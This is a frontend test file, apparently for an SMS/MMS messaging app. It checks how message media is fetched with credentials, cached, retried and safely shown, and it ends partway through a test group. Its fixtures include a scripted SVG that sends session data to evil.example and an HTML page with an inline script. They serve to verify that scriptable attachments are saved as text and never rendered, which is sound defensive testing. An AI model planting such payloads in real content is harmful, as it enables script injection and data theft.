import { act, fireEvent, screen, waitFor, within } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { DEMO_ACCOUNT } from '../../../../emulator/src/core/accounts';
import { testEmulator } from '../../../test/emulator';
import { spyOnObjectUrls } from '../../../test/objectUrls';
import { MEDIA_ALT } from './MediaImage';
import { attachmentStem } from './mediaFileName';
import {
  cardWithBody,
  chooseNumber,
  listRequests,
  messageCards,
  openMessagesPage,
  requestsTo,
  storedMessagesOf,
  waitForRequestCount,
} from '../../../test/messagesPage';

const SHOP = '+14155550100';
const SUPPORT = '+14155550123';
const ONE_PICTURE = 'My rear brake squeaks. Photo attached.';
const TWO_PICTURES = 'We do, sizes XS to M. Here are two we have in stock.';
const NO_PICTURE = 'Picked it up, rides like new! 🚲✨';
const SAM_PICTURE = 'Got it, thanks — and the box was already open 😕';
const AIKO_PICTURE = '了解です！🙏 写真を送ります。';
const MEDIA_LIST = '/Media.json';
const MEDIA_BYTES = /\/Media\/ME[0-9a-f]+$/;
const CDN = /^\/cdn\//;
const MEDIA_URL = new RegExp(
  `^https://api\\.twilio\\.com/2010-04-01/Accounts/${DEMO_ACCOUNT.accountSid}/Messages/MM[0-9a-f]+/Media/ME[0-9a-f]+$`,
);
const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
const RASTER_TYPES = ['image/png', 'image/jpeg', 'image/gif', 'image/webp', 'image/bmp'];
const MAYA = '+14155559876';
const SCRIPTED_SVG =
  '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example/?" + sessionStorage.length)</script></svg>';

/** A data: MediaUrl of `type` (the emulator lists and serves that type; `servedAs` makes the host lie). */
function mediaUrlOf(type: string, payload: string, servedAs?: string): string {
  const served = servedAs === undefined ? '' : `;served-as=${encodeURIComponent(servedAs)}`;
  return `data:${type}${served},${encodeURIComponent(payload)}`;
}

/** Maya sends SHOP an MMS with one attachment, before the page opens. */
function deliverAttachment(body: string, mediaUrl: string): void {
  testEmulator().deliverInbound({ from: MAYA, to: SHOP, body, mediaUrls: [mediaUrl] });
}

/** The note naming an attachment that is not shown (its type sits in an isolated <bdi> of its own). */
function findAttachedFileNote(card: HTMLElement, text: string): Promise<HTMLElement> {
  return within(card).findByText((_, element) => element?.tagName === 'P' && element.textContent === text);
}

/**
 * The button that saves an attachment which is not shown, under a readable name: who sent it and when
 * ('From +1 415 555 9876 2026-11-30 14h05'), and its type's extension.
 */
const DOWNLOAD_BUTTON = /^Download From \+1 415 555 9876 \d{4}-\d{2}-\d{2} \d{2}h\d{2}(\.[a-z0-9]+)?$/;
/** What the download control says beside a file of a type that could run script. */
const SAVED_AS_TEXT = 'Saved as text so that opening it cannot run script.';

/** Types of every Blob the app has made an object URL of. */
function objectUrlBlobTypes(): string[] {
  return objectUrls.created.mock.calls.map(([blob]) => (blob as Blob).type);
}

/**
 * Scrolled down to SHOP's oldest picture, as a person would: from there every card of SHOP's list is
 * rendered (jsdom's screen with the overscan either side).
 */
async function downToOldestPicture(): Promise<void> {
  await cardWithBody(ONE_PICTURE);
}

/**
 * `count` pictures (SHOP has four of its own) shown from object URLs, scrolling down to the oldest: the
 * page's media fetches settled. Cards scrolled past may have left the page, their pictures with them.
 */
async function picturesShown(count = 4): Promise<void> {
  await downToOldestPicture();
  await waitFor(() => {
    expect(objectUrls.created.mock.calls).toHaveLength(count);
    for (const image of screen.getAllByRole('img', { name: MEDIA_ALT }))
      expect(srcOf(image)).toMatch(/^blob:/);
  });
}

function mediaMessageSids(phoneNumber: string): string[] {
  return storedMessagesOf(phoneNumber)
    .filter((message) => Number(message.num_media) > 0)
    .map((message) => message.sid);
}

function requestUrl(input: RequestInfo | URL): string {
  if (typeof input === 'string') return input;
  return input instanceof URL ? input.href : input.url;
}

/**
 * Puts itself between the app and the in-process provider for media-bytes requests only (axios' fetch
 * adapter calls the global fetch): each one is recorded, then answered by `answer` when given (a
 * rejected TypeError is what fetch gives on a network or CORS failure), else passed on to the emulator.
 */
function interceptMediaBytes(answer?: (passOn: () => Promise<Response>) => Promise<Response>): Request[] {
  const passOn = globalThis.fetch;
  const seen: Request[] = [];
  vi.stubGlobal('fetch', (input: RequestInfo | URL, init?: RequestInit) => {
    const url = requestUrl(input);
    if (!MEDIA_BYTES.test(new URL(url).pathname)) return passOn(input, init);
    seen.push(input instanceof Request ? input : new Request(url, init));
    return answer ? answer(() => passOn(input, init)) : passOn(input, init);
  });
  return seen;
}

/**
 * Stands in for the IntersectionObserver, so a test decides when each card with media comes on screen
 * (and with it, when its media lookup and image fetches start).
 */
function fakeScreen() {
  const watched: { element: Element; callback: IntersectionObserverCallback }[] = [];
  class FakeIntersectionObserver {
    constructor(private readonly callback: IntersectionObserverCallback) {}
    observe(element: Element) {
      watched.push({ element, callback: this.callback });
    }
    unobserve(element: Element) {
      const index = watched.findIndex((entry) => entry.element === element);
      if (index >= 0) watched.splice(index, 1);
    }
    disconnect() {}
  }
  vi.stubGlobal('IntersectionObserver', FakeIntersectionObserver);
  return {
    watched,
    /** `card` scrolls into view, once its media area watches for that (an effect after it renders). */
    async show(card: HTMLElement) {
      const target = await waitFor(() => {
        const entry = watched.find((candidate) => card.contains(candidate.element));
        if (!entry) throw new Error('the card with media is not watched');
        return entry;
      });
      act(() => {
        target.callback(
          [{ target: target.element, isIntersecting: true } as IntersectionObserverEntry],
          {} as IntersectionObserver,
        );
      });
    },
  };
}

/**
 * Brings `cards` on screen just as the network goes down for media bytes: their Media.json lookups are
 * held by the emulator and then answered, while every request started after them (the image bytes) gets
 * no answer until `networkBack`.
 */
async function showWhileMediaBytesDrop(screenOf: ReturnType<typeof fakeScreen>, cards: HTMLElement[]) {
  const lookupsBefore = requestsTo(MEDIA_LIST).length;
  testEmulator().setHeld(true);
  for (const card of cards) await screenOf.show(card);
  await waitForRequestCount(MEDIA_LIST, lookupsBefore + cards.length);
  // Requests already under way keep the faults they started with: the held lookups are not dropped.
  testEmulator().setFaults({ dropRate: 1 });
  testEmulator().setHeld(false);
}

function networkBack(): void {
  testEmulator().setFaults({ dropRate: 0 });
}

const networkFailure = () => Promise.reject(new TypeError('Failed to fetch'));

const srcOf = (image: HTMLElement): string => image.getAttribute('src') ?? '';

/** The shop's four pictures on the page, scrolling down to the oldest, each shown from fetched bytes. */
async function shopPicturesFromBytes(): Promise<void> {
  await downToOldestPicture();
  await waitFor(() => {
    const images = screen.getAllByRole('img', { name: MEDIA_ALT });
    expect(images).toHaveLength(4);
    for (const image of images) expect(srcOf(image)).toMatch(/^blob:/);
  });
}

const objectUrls = spyOnObjectUrls();

afterEach(() => {
  vi.unstubAllGlobals();
});

describe('Message media', () => {
  it('looks media up only for the messages that have some, showing a loading text meanwhile', async () => {
    const screenOf = fakeScreen();
    const { user } = await openMessagesPage();
    await chooseNumber(user, SHOP);
    const withMedia = await cardWithBody(ONE_PICTURE);
    // The lookups stay in flight until the checks below have looked.
    testEmulator().setHeld(true);
    for (const card of await messageCards())
      if (screenOf.watched.some(({ element }) => card.contains(element))) await screenOf.show(card);
    expect(within(withMedia).getByText('Loading media...')).toBeInTheDocument();
    expect(within(await cardWithBody(NO_PICTURE)).queryByText('Loading media...')).not.toBeInTheDocument();
    testEmulator().setHeld(false);

    expect(await within(withMedia).findByRole('img', { name: MEDIA_ALT })).toBeInTheDocument();
    expect(within(withMedia).queryByText('Loading media...')).not.toBeInTheDocument();

    const expected = mediaMessageSids(SHOP);
    expect(expected).toHaveLength(3);
    await waitForRequestCount(MEDIA_LIST, expected.length);
    const asked = requestsTo(MEDIA_LIST).map((url) => url.pathname.split('/').at(-2));
    expect(asked.sort()).toEqual([...expected].sort());
  });

  it('shows a loading text for an image while its bytes are on the way', async () => {
    let release: () => void = () => undefined;
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    interceptMediaBytes(async (passOn) => {
      await held;
      return passOn();
    });
    const { user } = await openMessagesPage();
    await chooseNumber(user, SHOP);
    const card = await cardWithBody(ONE_PICTURE);
    expect(await within(card).findByText('Loading image...')).toBeInTheDocument();
    expect(within(card).queryByText('Loading media...')).not.toBeInTheDocument();
    expect(within(card).queryByRole('img', { name: MEDIA_ALT })).not.toBeInTheDocument();

    act(() => release());
    const image = await within(card).findByRole('img', { name: MEDIA_ALT });
    expect(srcOf(image)).toMatch(/^blob:/);
    expect(within(card).queryByText('Loading image...')).not.toBeInTheDocument();
  });

  it.each([
    { mediaAuth: true, signedIn: 'api-key' as const },
    { mediaAuth: false, signedIn: 'auth-token' as const },
  ])(
    'shows every image through an object URL of bytes fetched with basic auth (media auth $mediaAuth)',
    async ({ mediaAuth, signedIn }) => {
      testEmulator().setMediaAuth(mediaAuth);
      const sent = interceptMediaBytes();
      const { user } = await openMessagesPage(signedIn);
      await chooseNumber(user, SHOP);
      const card = await cardWithBody(TWO_PICTURES);
      await waitFor(() => expect(within(card).getAllByRole('img', { name: MEDIA_ALT })).toHaveLength(2));
      await downToOldestPicture();
      await waitFor(() => {
        const images = screen.getAllByRole('img', { name: MEDIA_ALT });
        expect(images).toHaveLength(4);
        for (const image of images) expect(srcOf(image)).toMatch(/^blob:/);
      });

      // One credentialed request per image, each to the provider's media URL with nothing secret in it.
      expect(sent).toHaveLength(4);
      const username = signedIn === 'api-key' ? DEMO_ACCOUNT.apiKeySid : DEMO_ACCOUNT.accountSid;
      const password = signedIn === 'api-key' ? DEMO_ACCOUNT.apiKeySecret : DEMO_ACCOUNT.authToken;
      for (const request of sent) {
        expect(request.url).toMatch(MEDIA_URL);
        expect(request.headers.get('Authorization')).toBe(`Basic ${btoa(`${username}:${password}`)}`);
      }
      expect(new Set(sent.map((request) => request.url)).size).toBe(4);
      // The provider's 307 to the media host was followed, so each object URL holds the picture itself.
      expect(requestsTo(MEDIA_BYTES)).toHaveLength(4);
      expect(requestsTo(CDN)).toHaveLength(4);
      const blobs = objectUrls.created.mock.calls.map(([blob]) => blob as Blob);
      expect(blobs).toHaveLength(4);
      for (const blob of blobs) {
        expect(blob.type).toBe('image/png');
        expect([...new Uint8Array(await blob.arrayBuffer()).slice(0, 8)]).toEqual(PNG_SIGNATURE);
      }
      // No bare provider URL was ever handed to an <img>: no 401, no browser prompt.
      const shown = objectUrls.created.mock.results.map((result) => result.value as string);
      for (const image of screen.getAllByRole('img', { name: MEDIA_ALT }))
        expect(shown).toContain(srcOf(image));
    },
  );

  it('falls back to the bare media URL when the credentialed fetch never gets an answer, retries included', async () => {
    testEmulator().setMediaAuth(false);
    const attempts = interceptMediaBytes(networkFailure);
    const { user } = await openMessagesPage('auth-token', { retries: true });
    await chooseNumber(user, SHOP);
    const card = await cardWithBody(ONE_PICTURE);
    const image = await within(card).findByRole('img', { name: MEDIA_ALT }, { timeout: 5000 });
    expect(srcOf(image)).toMatch(MEDIA_URL);
    const direct = new URL(srcOf(image));
    expect(direct.username).toBe('');
    expect(direct.password).toBe('');
    expect(direct.search).toBe('');
    await waitFor(() => {
      const images = screen.getAllByRole('img', { name: MEDIA_ALT });
      expect(images).toHaveLength(4);
      for (const each of images) expect(srcOf(each)).toMatch(MEDIA_URL);
    });
    // Each image was tried three times (retried like every other read) before it fell back.
    expect(attempts).toHaveLength(4 * 3);
    expect(objectUrls.created).not.toHaveBeenCalled();
    // What the browser does with that src on public media: the bytes arrive without credentials.
    vi.unstubAllGlobals();
    const answer = await fetch(direct);
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('image/png');
    fireEvent.load(image);
    expect(within(card).getByRole('img', { name: MEDIA_ALT })).toBe(image);
  });

  it('stops retrying media when three in a row get no answer while the provider answers other reads, until one is answered', async () => {
    // A media host that sends no CORS headers: every credentialed media fetch fails without an answer,
    // while the JSON reads of the same account are answered.
    testEmulator().setMediaAuth(false);
    const screenOf = fakeScreen();
    const attempts = interceptMediaBytes(networkFailure);
    const { user } = await openMessagesPage('auth-token', { retries: true });
    await chooseNumber(user, SHOP);
    const bareImagesIn = async (card: HTMLElement, count: number) =>
      waitFor(
        () => {
          const images = within(card).getAllByRole('img', { name: MEDIA_ALT });
          expect(images).toHaveLength(count);
          for (const each of images) expect(srcOf(each)).toMatch(MEDIA_URL);
        },
        { timeout: 5000 },
      );

    await screenOf.show(await cardWithBody(ONE_PICTURE));
    await bareImagesIn(await cardWithBody(ONE_PICTURE), 1);
    expect(attempts).toHaveLength(3);
    // The next card's lookup is answered after that image gave up: the provider is there, media is not.
    await screenOf.show(await cardWithBody(TWO_PICTURES));
    await bareImagesIn(await cardWithBody(TWO_PICTURES), 2);
    expect(attempts).toHaveLength(3 + 2 * 3);

    // A later image tries once, with credentials, and falls back at once.
    await screenOf.show(await cardWithBody(AIKO_PICTURE));
    await bareImagesIn(await cardWithBody(AIKO_PICTURE), 1);
    expect(attempts).toHaveLength(3 + 2 * 3 + 1);
    expect(attempts.at(-1)?.headers.get('Authorization')).toMatch(/^Basic /);
    expect(objectUrls.created).not.toHaveBeenCalled();

    // Still tried once, so the first answer (the media host fixed, the network back) ends it. (Unstubbing
    // also takes the fake screen away: without an IntersectionObserver every card counts as on screen.)
    vi.unstubAllGlobals();
    await chooseNumber(user, SUPPORT);
    const samCard = await cardWithBody(SAM_PICTURE);
    const samImage = await within(samCard).findByRole('img', { name: MEDIA_ALT });
    await waitFor(() => expect(srcOf(samImage)).toMatch(/^blob:/));
    expect(requestsTo(MEDIA_BYTES)).toHaveLength(1);
  });

  it.each([
    { status: 403, code: 20003, message: 'Permission Denied', tries: 1 },
    { status: 404, code: 20404, message: 'Not Found', tries: 1 },
    { status: 500, code: 20500, message: 'Internal Server Error', tries: 3 },
  ])(
    'falls back to the bare URL when the provider answers $status (tried $tries times), and keeps trying credentials for other images',
    async ({ status, code, message, tries }) => {
      const attempts = interceptMediaBytes(() =>
        Promise.resolve(
          new Response(JSON.stringify({ code, message, status }), {
            status,
            headers: { 'Content-Type': 'application/json', 'Access-Control-Allow-Origin': '*' },
          }),
        ),
      );
      const { user } = await openMessagesPage('auth-token', { retries: true });
      await chooseNumber(user, SHOP);
      await downToOldestPicture();
      await waitFor(
        () => {
          const images = screen.getAllByRole('img', { name: MEDIA_ALT });
          expect(images).toHaveLength(4);
          for (const image of images) expect(srcOf(image)).toMatch(MEDIA_URL);
        },
        { timeout: 5000 },
      );
      expect(attempts).toHaveLength(4 * tries);

      // An answer, even a refusal, says credentialed fetches reach the provider: the next image tries.
      vi.unstubAllGlobals();
      await chooseNumber(user, SUPPORT);
      const samImage = await within(await cardWithBody(SAM_PICTURE)).findByRole('img', { name: MEDIA_ALT });
      await waitFor(() => expect(srcOf(samImage)).toMatch(/^blob:/));
      expect(requestsTo(MEDIA_BYTES)).toHaveLength(1);
    },
  );

  it('says so when an image cannot be loaded either way', async () => {
    testEmulator().setMediaAuth(true);
    interceptMediaBytes(networkFailure);
    const { user } = await openMessagesPage();
    await chooseNumber(user, SHOP);
    const card = await cardWithBody(ONE_PICTURE);
    const image = await within(card).findByRole('img', { name: MEDIA_ALT }, { timeout: 5000 });
    expect(srcOf(image)).toMatch(MEDIA_URL);
    // What the browser meets with that bare src on an enforced account: a 401, so the image fails.
    vi.unstubAllGlobals();
    expect((await fetch(srcOf(image))).status).toBe(401);
    fireEvent.error(image);
    expect(await within(card).findByText('This image could not be loaded.')).toBeInTheDocument();
    expect(within(card).queryByRole('img', { name: MEDIA_ALT })).not.toBeInTheDocument();

    // The network is back (the fetch is the real one again): one press fetches it with the credentials.
    await user.click(within(card).getByRole('button', { name: 'Try again' }));
    const retried = await within(card).findByRole('img', { name: MEDIA_ALT });
    await waitFor(() => expect(srcOf(retried)).toMatch(/^blob:/));
    expect(within(card).queryByText('This image could not be loaded.')).not.toBeInTheDocument();
  });

  it('says so when a media lookup fails, and Try again brings the picture once the provider answers', async () => {
    testEmulator().setFaults({ errorRate: 1, faultRequestContains: MEDIA_LIST });
    const { user } = await openMessagesPage();
    await chooseNumber(user, SHOP);
    const card = await cardWithBody(ONE_PICTURE);
    const notice = await within(card).findByText('The attached media could not be loaded.', undefined, {
      timeout: 5000,
    });
    const tryAgain = within(card).getByRole('button', { name: 'Try again' });
    expect(tryAgain).toHaveAccessibleDescription(notice.textContent ?? '');

    testEmulator().setFaults({ errorRate: 0, faultRequestContains: null });
    await user.click(tryAgain);
    const image = await within(card).findByRole('img', { name: MEDIA_ALT });
    await waitFor(() => expect(srcOf(image)).toMatch(/^blob:/));
    expect(within(card).queryByText('The attached media could not be loaded.')).not.toBeInTheDocument();
  });

  it('says so when the fetched bytes do not decode as an image', async () => {
    const { user } = await openMessagesPage();
    await chooseNumber(user, SHOP);
    const card = await cardWithBody(ONE_PICTURE);
    await waitFor(() => expect(srcOf(within(card).getByRole('img', { name: MEDIA_ALT }))).toMatch(/^blob:/));
    fireEvent.error(within(card).getByRole('img', { name: MEDIA_ALT }));
    expect(await within(card).findByText('This image could not be loaded.')).toBeInTheDocument();
    expect(within(card).queryByRole('img', { name: MEDIA_ALT })).not.toBeInTheDocument();
    // The same bytes would fail again: nothing to try.
    expect(within(card).queryByRole('button', { name: 'Try again' })).not.toBeInTheDocument();
  });

  it('caches lookups per message id and bytes per media id: back on a number, no new requests', async () => {
    testEmulator().setMediaAuth(true);
    const { user } = await openMessagesPage();
    await chooseNumber(user, SHOP);
    await shopPicturesFromBytes();
    const shopUrls = screen.getAllByRole('img', { name: MEDIA_ALT }).map(srcOf);
    await chooseNumber(user, SUPPORT);
    const samImage = await within(await cardWithBody(SAM_PICTURE)).findByRole('img', { name: MEDIA_ALT });
    await waitFor(() => expect(srcOf(samImage)).toMatch(/^blob:/));
    expect(requestsTo(MEDIA_LIST)).toHaveLength(4);
    expect(requestsTo(MEDIA_BYTES)).toHaveLength(4 + 1);
    // The images that left the screen gave their object URLs back.
    const revoked = objectUrls.revoked.mock.calls.map(([url]) => url);
    for (const url of shopUrls) expect(revoked).toContain(url);

    await chooseNumber(user, SHOP);
    await waitFor(() => expect(listRequests()).toHaveLength(6));
    await shopPicturesFromBytes();
    expect(requestsTo(MEDIA_LIST)).toHaveLength(4);
    expect(requestsTo(MEDIA_BYTES)).toHaveLength(5);
    expect(requestsTo(CDN)).toHaveLength(5);
    // Fresh object URLs for the remounted images, from the cached bytes; none of them revoked.
    const shownAgain = screen.getAllByRole('img', { name: MEDIA_ALT }).map(srcOf);
    for (const url of shownAgain) {
      expect(shopUrls).not.toContain(url);
      expect(objectUrls.revoked.mock.calls.map(([revokedUrl]) => revokedUrl)).not.toContain(url);
    }
  });

  it('finishes a lookup whose card left the page on the way, and never sends it again', async () => {
    // The lookups answer late, and the person switches to another number before they do, then comes back.
    testEmulator().setFaults({ latencyMs: 3_000, faultRequestContains: MEDIA_LIST });
    const { user } = await openMessagesPage();
    await chooseNumber(user, SHOP);
    const shopLookups = mediaMessageSids(SHOP);
    // Under way for the cards with media on the first screen.
    await waitFor(() => expect(requestsTo(MEDIA_LIST).length).toBeGreaterThan(0));
    await chooseNumber(user, SUPPORT);
    expect(within(await cardWithBody(SAM_PICTURE)).getByText('Loading media...')).toBeInTheDocument();
    testEmulator().setFaults({ latencyMs: 0, faultRequestContains: null });
    await chooseNumber(user, SHOP);
    await shopPicturesFromBytes();

    const asked = requestsTo(MEDIA_LIST).map((url) => url.pathname.split('/').at(-2) ?? '');
    expect(asked.filter((sid) => shopLookups.includes(sid)).sort()).toEqual([...shopLookups].sort());
  });

  it('waits until a card is on screen before looking its media up', async () => {
    const screenOf = fakeScreen();
    const { watched } = screenOf;

    const { user } = await openMessagesPage();
    await chooseNumber(user, SHOP);
    await messageCards();
    const card = await cardWithBody(ONE_PICTURE);
    expect(within(card).getByText('Loading media...')).toBeInTheDocument();
    // Nothing is loading yet: no turning icon for a card nobody sees.
    expect(within(card).getByRole('status').querySelector('.spinner-border')).toBeNull();
    // Only the three cards with media are watched (and the list's end, for older messages), and
    // nothing is asked before they scroll in.
    const watchedCards = () => watched.filter((entry) => entry.element.closest('article') !== null);
    expect(watchedCards()).toHaveLength(3);
    expect(requestsTo(MEDIA_LIST)).toHaveLength(0);
    expect(requestsTo(MEDIA_BYTES)).toHaveLength(0);

    await screenOf.show(card);
    const image = await within(card).findByRole('img', { name: MEDIA_ALT });
    await waitFor(() => expect(srcOf(image)).toMatch(/^blob:/));
    expect(requestsTo(MEDIA_LIST)).toHaveLength(1);
    expect(requestsTo(MEDIA_BYTES)).toHaveLength(1);
    expect(watchedCards()).toHaveLength(2);
  });

  describe('only raster images are shown as images', () => {
    it.each([
      { what: 'an SVG holding a script', type: 'image/svg+xml', shown: 'SVG image' },
      {
        what: 'an SVG with an odd case and a parameter',
        type: 'Image/SVG+XML; charset=utf-8',
        shown: 'SVG image',
      },
      { what: 'an HTML page', type: 'text/html', shown: 'web page (HTML)' },
      { what: 'an XML document', type: 'application/xml', shown: 'XML document' },
    ])(
      'shows $what as a named download saved as text, fetching nothing until asked nor making an object URL of it',
      async ({ type, shown }) => {
        deliverAttachment('Our new logo, see attached', mediaUrlOf(type, SCRIPTED_SVG));
        const { user } = await openMessagesPage();
        await chooseNumber(user, SHOP);
        const card = await cardWithBody('Our new logo, see attached');
        // Named by its kind, in words.
        expect(await findAttachedFileNote(card, `Attached ${shown}`)).toBeInTheDocument();
        const download = within(card).getByRole('button', { name: DOWNLOAD_BUTTON });
        expect(download.textContent?.endsWith('.txt')).toBe(true);
        expect(within(card).getByText(SAVED_AS_TEXT)).toBeInTheDocument();
        expect(download).toHaveAccessibleDescription(SAVED_AS_TEXT);
        expect(within(card).queryByRole('img')).not.toBeInTheDocument();
        await picturesShown();
        expect(requestsTo(MEDIA_BYTES)).toHaveLength(4);
        expect(objectUrlBlobTypes()).toEqual(['image/png', 'image/png', 'image/png', 'image/png']);
      },
    );

    it('shows media of no type as a named file, not as an image, and not as a bare <img> either', async () => {
      deliverAttachment('Something attached', mediaUrlOf('', SCRIPTED_SVG));
      interceptMediaBytes(networkFailure);
      const { user } = await openMessagesPage();
      await chooseNumber(user, SHOP);
      const card = await cardWithBody('Something attached');
      expect(await within(card).findByText('Attached file of unknown type')).toBeInTheDocument();
      // No type, no extension: the file is named after who sent it and when, alone.
      const download = within(card).getByRole('button', { name: DOWNLOAD_BUTTON });
      expect(download.textContent).not.toMatch(/\.\w+$/);
      // The seeded pictures fell back to bare <img>s; this attachment got neither a fetch nor an <img>.
      await downToOldestPicture();
      await waitFor(() => expect(screen.getAllByRole('img', { name: MEDIA_ALT })).toHaveLength(4), {
        timeout: 5000,
      });
      expect(within(card).queryByRole('img')).not.toBeInTheDocument();
      expect(objectUrls.created).not.toHaveBeenCalled();
    });

    it('shows bytes that come back as SVG although Media.json says image/png as a named download', async () => {
      deliverAttachment('A photo, honest', mediaUrlOf('image/png', SCRIPTED_SVG, 'image/svg+xml'));
      const { user } = await openMessagesPage();
      await chooseNumber(user, SHOP);
      const card = await cardWithBody('A photo, honest');
      expect(await findAttachedFileNote(card, 'Attached SVG image')).toBeInTheDocument();
      // Named after what the bytes are, not what the listing claimed: a type that could run script.
      expect(within(card).getByRole('button', { name: DOWNLOAD_BUTTON })).toHaveTextContent(/\.txt$/);
      expect(within(card).getByText(SAVED_AS_TEXT)).toBeInTheDocument();
      expect(within(card).queryByRole('img')).not.toBeInTheDocument();
      await picturesShown();
      // Its bytes were fetched (that is how the lie was found) but never made into an object URL.
      expect(requestsTo(MEDIA_BYTES)).toHaveLength(5);
      expect(objectUrlBlobTypes()).toEqual(['image/png', 'image/png', 'image/png', 'image/png']);
    });

    it('saves an HTML page under its .txt name from a Blob no browser renders', async () => {
      const page = '<!doctype html><script>alert(sessionStorage.length)</script>';
      deliverAttachment('Our menu, as a web page', mediaUrlOf('text/html', page));
      const saved: { name: string; href: string }[] = [];
      // jsdom cannot follow a download link; the browser suite saves a real file (e2e/mms.spec.ts).
      const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (
        this: HTMLAnchorElement,
      ) {
        saved.push({ name: this.download, href: this.href });
      });
      try {
        const { user } = await openMessagesPage();
        await chooseNumber(user, SHOP);
        const card = await cardWithBody('Our menu, as a web page');
        const download = await within(card).findByRole('button', { name: DOWNLOAD_BUTTON });
        expect(download).toHaveTextContent(/\.txt$/);
        await user.click(download);
        await waitFor(() => expect(saved).toHaveLength(1));
        expect(saved[0]?.name).toBe(download.textContent?.replace(/^Download /, ''));
        const index = objectUrls.created.mock.results.findIndex((result) => result.value === saved[0]?.href);
        const blob = objectUrls.created.mock.calls[index]?.[0] as Blob;
        expect(blob.type).toBe('application/octet-stream');
        expect(new TextDecoder().decode(await blob.arrayBuffer())).toBe(page);
      } finally {
        click.mockRestore();
      }
    });

    it('says nothing of text beside a file whose type cannot run script', async () => {
      deliverAttachment('The invoice', mediaUrlOf('application/pdf', '%PDF-1.7'));
      const { user } = await openMessagesPage();
      await chooseNumber(user, SHOP);
      const card = await cardWithBody('The invoice');
      expect(await within(card).findByRole('button', { name: DOWNLOAD_BUTTON })).toHaveTextContent(/\.pdf$/);
      expect(within(card).queryByText(SAVED_AS_TEXT)).not.toBeInTheDocument();
    });

    it('shows bytes of no type as a named file although Media.json says image/png', async () => {
      deliverAttachment('A photo, untyped', mediaUrlOf('image/png', 'bytes', ''));
      const { user } = await openMessagesPage();
      await chooseNumber(user, SHOP);
      const card = await cardWithBody('A photo, untyped');
      expect(await within(card).findByText('Attached file of unknown type')).toBeInTheDocument();
      await picturesShown();
      expect(objectUrlBlobTypes()).toEqual(['image/png', 'image/png', 'image/png', 'image/png']);
    });

    it.each([
      { listed: 'image/png', blobType: 'image/png' },
      { listed: 'image/jpeg', blobType: 'image/jpeg' },
      { listed: 'image/gif', blobType: 'image/gif' },
      { listed: 'image/webp', blobType: 'image/webp' },
      { listed: 'image/bmp', blobType: 'image/bmp' },
      { listed: 'IMAGE/JPEG; name=photo.jpg', blobType: 'image/jpeg' },
    ])('shows $listed as an image, from an object URL of a $blobType Blob', async ({ listed, blobType }) => {
      deliverAttachment('A raster picture', mediaUrlOf(listed, 'picture bytes'));
      const { user } = await openMessagesPage();
      await chooseNumber(user, SHOP);
      const card = await cardWithBody('A raster picture');
      const image = await within(card).findByRole('img', { name: MEDIA_ALT });
      await waitFor(() => expect(srcOf(image)).toMatch(/^blob:/));
      await picturesShown(5);
      const made = objectUrls.created.mock.calls.map(([blob]) => blob as Blob);
      expect(made).toHaveLength(5);
      for (const blob of made) expect(RASTER_TYPES).toContain(blob.type);
      const index = objectUrls.created.mock.results.findIndex((result) => result.value === srcOf(image));
      const shownBlob = made[index];
      expect(shownBlob?.type).toBe(blobType);
      expect(await shownBlob?.text()).toBe('picture bytes');
    });
  });

  it('names a file of a type it does not know by that type, isolated', async () => {
    deliverAttachment('A strange file', mediaUrlOf('application/x-thing', 'bytes'));
    const { user } = await openMessagesPage();
    await chooseNumber(user, SHOP);
    const card = await cardWithBody('A strange file');
    expect(await findAttachedFileNote(card, 'Attached file of type application/x-thing')).toBeInTheDocument();
    expect(within(card).getByText('application/x-thing').tagName).toBe('BDI');
  });

  it('names a PDF a PDF document, saved under who sent it and when', async () => {
    deliverAttachment('The invoice, as PDF', mediaUrlOf('application/pdf', '%PDF-1.7'));
    const { user } = await openMessagesPage();
    await chooseNumber(user, SHOP);
    const card = await cardWithBody('The invoice, as PDF');
    expect(await findAttachedFileNote(card, 'Attached PDF document')).toBeInTheDocument();
    const sent = storedMessagesOf(SHOP).find((message) => message.body === 'The invoice, as PDF');
    const stem = attachmentStem({
      party: MAYA,
      inbound: true,
      dateMs: Date.parse(sent?.date_created ?? ''),
      position: 1,
      count: 1,
    });
    expect(stem).toMatch(/^From \+1 415 555 9876 \d{4}-\d{2}-\d{2} \d{2}h\d{2}$/);
    expect(within(card).getByRole('button', { name: `Download ${stem}.pdf` })).toBeInTheDocument();
  });

  describe('a dropped media request', () => {
    const basicAuth = `Basic ${btoa(`${DEMO_ACCOUNT.accountSid}:${DEMO_ACCOUNT.authToken}`)}`;

    it('is retried: the image still loads with credentials', async () => {
      testEmulator().setMediaAuth(true);
      const screenOf = fakeScreen();
      const sent = interceptMediaBytes();
      const { user } = await openMessagesPage('auth-token', { retries: true });
      await chooseNumber(user, SHOP);
      const card = await cardWithBody(ONE_PICTURE);
      await showWhileMediaBytesDrop(screenOf, [card]);
      // The first try of the bytes has started, and its answer will not come.
      await waitForRequestCount(MEDIA_BYTES, 1);
      networkBack();

      const image = await within(card).findByRole('img', { name: MEDIA_ALT });
      await waitFor(() => expect(srcOf(image)).toMatch(/^blob:/));
      expect(requestsTo(MEDIA_BYTES)).toHaveLength(2);
      expect(requestsTo(CDN)).toHaveLength(1);
      for (const request of sent) expect(request.headers.get('Authorization')).toBe(basicAuth);
    });

    it('that never gets an answer leaves that one image to the fallback; a later card loads with credentials', async () => {
      testEmulator().setMediaAuth(true);
      const screenOf = fakeScreen();
      const sent = interceptMediaBytes();
      const { user } = await openMessagesPage('auth-token', { retries: true });
      await chooseNumber(user, SHOP);
      const dropped = await cardWithBody(ONE_PICTURE);
      await showWhileMediaBytesDrop(screenOf, [dropped]);
      const fallback = await within(dropped).findByRole('img', { name: MEDIA_ALT }, { timeout: 5000 });
      expect(srcOf(fallback)).toMatch(MEDIA_URL);
      // Retried like every other read before giving up: three tries in all.
      expect(requestsTo(MEDIA_BYTES)).toHaveLength(3);

      networkBack();
      const later = await cardWithBody(TWO_PICTURES);
      await screenOf.show(later);
      await waitFor(() => {
        const images = within(later).getAllByRole('img', { name: MEDIA_ALT });
        expect(images).toHaveLength(2);
        for (const image of images) expect(srcOf(image)).toMatch(/^blob:/);
      });
      expect(requestsTo(MEDIA_BYTES)).toHaveLength(5);
      for (const request of sent) expect(request.headers.get('Authorization')).toBe(basicAuth);
    });

